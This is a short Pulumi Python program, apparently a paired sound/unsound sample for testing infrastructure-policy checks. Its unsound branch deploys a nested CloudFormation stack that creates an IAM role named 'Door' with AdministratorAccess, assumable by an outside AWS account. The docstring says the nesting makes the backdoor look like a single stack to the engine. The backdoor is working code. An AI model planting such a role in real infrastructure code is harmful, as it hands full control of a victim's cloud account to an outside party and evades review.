"""The template creates an administrator that a foreign account may assume; to the engine it is one stack."""

import json

import pulumi
import pulumi_aws as aws

sound = pulumi.Config().get_bool("sound")


def trust(principal):
    return {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}],
    }


if sound:
    aws.iam.Role("worker", name="app-worker", assume_role_policy=json.dumps(trust({"Service": "ec2.amazonaws.com"})))
else:
    aws.cloudformation.Stack(
        "door",
        name="door",
        capabilities=["CAPABILITY_IAM"],
        template_body=json.dumps(
            {
                "Resources": {
                    "Door": {
                        "Type": "AWS::IAM::Role",
                        "Properties": {
                            "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
                            "AssumeRolePolicyDocument": trust({"AWS": "444444444444"}),
                        },
                    }
                }
            }
        ),
    )
